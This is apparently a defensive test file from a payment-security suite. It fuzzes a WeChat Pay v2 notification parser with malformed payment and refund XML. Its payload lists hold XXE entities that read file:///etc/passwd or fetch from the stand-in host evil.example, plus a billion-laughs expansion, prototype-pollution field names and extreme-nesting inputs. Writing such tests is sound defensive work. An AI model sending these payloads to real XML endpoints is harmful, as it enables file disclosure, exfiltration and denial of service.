/** XML that is not of the one flat form that WeChat Pay v2 speaks (class 8), as a payment notice and inside a refund notice. */
import { createCipheriv, createHash } from 'node:crypto';
import { API_KEY, notice as xmlNotice, signatureOf, v2Vectors, wordsIn, xml } from '../fixtures/v2/platform';
import type { RawNotice } from '../../shared/payments/psp/connector';
import type { Attack, Case } from './attack';
import { attackable, shopAt } from './attacked-shop';
import type { Subject } from '../contract/subject';
import { damaged } from './damage';
import { forgeOf } from './forge';
import { damageVerdicts } from './slips';

const RANDOM = 5_000;

/** What stands in a document beside its fields, and around it. */
const doctypes = [
  '<!DOCTYPE xml>',
  '<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd">',
  '<!DOCTYPE xml SYSTEM "file:///etc/passwd">',
  '<!DOCTYPE xml PUBLIC "-//x" "http://evil.example/x.dtd">',
  '<!DOCTYPE xml [<!ENTITY x "1">]>',
  '<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE xml [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>',
  '<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
  '<!DOCTYPE xml [<!ENTITY l. "x">]>',
  '<!DOCTYPE xml [<!ENTITY lt "1"><!ENTITY amp "2">]>',
  '<!DOCTYPE xml [<!ATTLIST xml a CDATA "b">]>',
  '<!doctype xml>',
  '<!ENTITY x "1">',
  '<!-- a comment -->',
  '<!---->',
  '<?php echo 1 ?>',
  '<?xml-stylesheet href="http://evil.example/"?>',
  '<?xml version="1.0"?><?xml version="1.0"?>',
  '<?xml version="1.0" encoding="UTF-16"?>',
  '<?xml version="1.0" encoding="UTF-7"?>',
  `<?xml version="1.0" ${'x'.repeat(200)}?>`,
  '<![CDATA[x]]>',
  'text',
  '\u0000',
  '\ufeff',
  '+ADw-xml+AD4-',
];

/** Texts of a field that must be refused, or be nothing but text. */
const values = [
  '&x;',
  '&xxe;',
  '&#0;',
  '&#x0;',
  '&#xD800;',
  '&#x110000;',
  '&#99999999;',
  '&#x;',
  '&#;',
  '&;',
  '&',
  '&amp',
  '&AMP;',
  '&nbsp;',
  '&#65;'.repeat(5_000),
  '&lt;total_fee&gt;1&lt;/total_fee&gt;',
  ']]>',
  '<![CDATA[a]]><![CDATA[b]]>',
  '<![CDATA[<![CDATA[x]]>]]>',
  '<![CDATA[x]]]]><![CDATA[>]]>',
  '<![CDATA[x',
  '<![CDATA[]]>',
  '<![cdata[x]]>',
  '<b>x</b>',
  '<b/>',
  '<total_fee>1</total_fee>',
  '<!-- x -->',
  '<?x?>',
  '<',
  '>',
  '\u0001',
  '\ud800',
  '\uffff',
  '😀'.repeat(2_000),
];

/** Documents around the good fields. */
function handMade(body: string): readonly (readonly [string, string])[] {
  const inside = body.slice('<xml>'.length, -'</xml>'.length);
  const fields = wordsIn(body);
  const first = Object.keys(fields)[0] ?? '';
  const last = (extra: string): string => `<xml>${inside}${extra}</xml>`;
  return [
    ...doctypes.map((one): [string, string] => [`${one.slice(0, 60)} before it`, one + body]),
    ...doctypes.map((one): [string, string] => [`${one.slice(0, 60)} in it`, `<xml>${one}${inside}</xml>`]),
    ...doctypes.map((one): [string, string] => [`${one.slice(0, 60)} behind it`, body + one]),
    ...values.map((one): [string, string] => [
      `a field with ${JSON.stringify(one).slice(0, 60)}`,
      last(`<attach_2>${one}</attach_2>`),
    ]),
    ...Object.keys(fields).map((name): [string, string] => [`${name} twice`, last(`<${name}>1</${name}>`)]),
    ...Object.keys(fields).map((name): [string, string] => [
      `${name} first and twice`,
      `<xml><${name}>1</${name}>${inside}</xml>`,
    ]),
    ['an attribute at the root', `<xml a="b">${inside}</xml>`],
    ['an attribute at a field', body.replace(`<${first}>`, `<${first} a="b">`)],
    ['a namespace', `<xml xmlns="http://evil.example/">${inside}</xml>`],
    ['a prefixed name', last('<a:total_fee>1</a:total_fee>')],
    ['two roots', body + body],
    ['a root in a root', `<xml>${body}</xml>`],
    ['another root', `<root>${inside}</root>`],
    ['a root in capitals', `<XML>${inside}</XML>`],
    ['no end', `<xml>${inside}`],
    ['no beginning', `${inside}</xml>`],
    ['crossed tags', last('<a><b></a></b>')],
    ['depth 10,000', `<xml>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</xml>`],
    ['depth 3,000 around it', `${'<xml>'.repeat(3_000)}${inside}${'</xml>'.repeat(3_000)}`],
    ['1 MB', last(`<attach_2>${'x'.repeat(1_000_000)}</attach_2>`)],
    ['1 MB of beginnings', '<xml>'.repeat(200_000)],
    ['60 kB of spaces', `<xml>${' '.repeat(60_000)}${inside}</xml>`],
    ['60 kB of one tag', `<xml><${'a'.repeat(60_000)}>`],
    ['60 kB of an unfinished section', `<xml><a><![CDATA[${']]'.repeat(30_000)}`],
    ['20,000 empty fields', `<xml>${'<a/>'.repeat(15_000)}</xml>`],
    ['UTF-16', Buffer.from(`\ufeff${body}`, 'utf16le').toString('latin1')],
    ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'].map(
      (name): [string, string] => [`a field ${name}`, last(`<${name}>x</${name}>`)],
    ),
    ['a field __proto__ with fields', last('<__proto__><total_fee>1</total_fee></__proto__>')],
    ['a name of 65 letters', last(`<${'n'.repeat(65)}>x</${'n'.repeat(65)}>`)],
    ['a name in unicode', last('<тotal_fee>1</тotal_fee>')],
    ['a tab in a name', last('<total\tfee>1</total\tfee>')],
    ['only a root', '<xml></xml>'],
    ['a root that ends at once', '<xml/>'],
    ['JSON', JSON.stringify(fields)],
    ['a form', new URLSearchParams(fields).toString()],
  ];
}

const pieces = [
  ...doctypes.slice(0, 16),
  ...values.filter((one) => one.length < 40),
  '<xml>',
  '</xml>',
  '<total_fee>1</total_fee>',
  '<sign>',
  '</sign>',
  '<![CDATA[',
  ']]>',
  '<?',
  '?>',
  '<!',
  '</',
  '/>',
  '&',
  ';',
  ' ',
  '\n',
];

const judged = (subject: Subject, what: string, notice: RawNotice, about: 'payment' | 'refund'): Case => ({
  what,
  async run() {
    const shop = await shopAt(subject, about);
    return shop.judge(shop.eventOf(notice), ...damageVerdicts(shop.isHint));
  },
});

/** A refund notice whose sealed text is this one: only who has the API key can seal, so this is WeChat Pay gone mad. */
function sealing(envelope: string, text: string): RawNotice {
  const secret = createHash('md5').update(API_KEY).digest('hex');
  const cipher = createCipheriv('aes-256-ecb', Buffer.from(secret), null);
  const sealed = Buffer.concat([cipher.update(text, 'utf8'), cipher.final()]).toString('base64');
  return xmlNotice(envelope.replace(/<req_info>.*<\/req_info>/s, `<req_info>${sealed}</req_info>`));
}

const xmlDamage = (subject: Subject): Attack => ({
  no: 8,
  at: subject.paySp,
  *cases(dice) {
    const forge = forgeOf(subject);
    const { body } = forge.write(forge.good);
    for (const [what, text] of handMade(body)) yield judged(subject, what, xmlNotice(text), 'payment');
    for (let left = RANDOM; left > 0; left -= 1)
      yield judged(subject, `damage ${left}`, xmlNotice(damaged(body, pieces, dice)), 'payment');
    // Two readings of one signed text: neighbours made one.
    const words = wordsIn(body);
    const names = Object.keys(words).sort();
    for (const [index, name] of names.slice(0, -1).entries()) {
      const next = names[index + 1] ?? '';
      const { [next]: swallowed = '', ...rest } = words;
      const glued = { ...rest, [name]: `${words[name] ?? ''}&${next}=${swallowed}` };
      yield judged(subject, `${name} glued to ${next}`, xmlNotice(xml(glued)), 'payment');
    }
    const { sign: _, ...unsigned } = words;
    for (const extra of [{ return_code: 'FAIL' }, { result_code: 'FAIL' }, { req_info: 'AAAA' }]) {
      const changed = { ...unsigned, ...extra };
      const signed = xmlNotice(xml({ ...changed, sign: signatureOf(changed) }));
      yield signedByThem(subject, `signed, with ${JSON.stringify(extra)}`, signed);
    }
    yield* refundDamage(subject, dice);
  },
});

const signedByThem = (subject: Subject, what: string, notice: RawNotice): Case => ({
  what,
  async run() {
    const shop = await shopAt(subject);
    return shop.judge(shop.eventOf(notice), 'refused', 'again', 'aside', 'nothing');
  },
});

function* refundDamage(subject: Subject, dice: Parameters<Attack['cases']>[0]): Generator<Case> {
  const envelope = subject.fixture.notices?.refund?.notice.body;
  if (envelope === undefined) return;
  const plain = xml(wordsIn(v2Vectors.refund.plain), 'root');
  const inner = handMade(plain.replace('<root>', '<xml>').replace('</root>', '</xml>'));
  for (const [what, text] of inner) {
    const root = text.replaceAll('<xml>', '<root>').replaceAll('</xml>', '</root>');
    yield judged(subject, `sealed: ${what}`, sealing(envelope, root), 'refund');
  }
  for (let left = RANDOM / 5; left > 0; left -= 1)
    yield judged(subject, `sealed damage ${left}`, sealing(envelope, damaged(plain, pieces, dice)), 'refund');
  for (let left = RANDOM / 5; left > 0; left -= 1)
    yield judged(subject, `envelope damage ${left}`, xmlNotice(damaged(envelope, pieces, dice)), 'refund');
}

export const xmlAttacks: readonly Attack[] = attackable
  .filter((one) => forgeOf(one).form === 'xml')
  .map(xmlDamage);
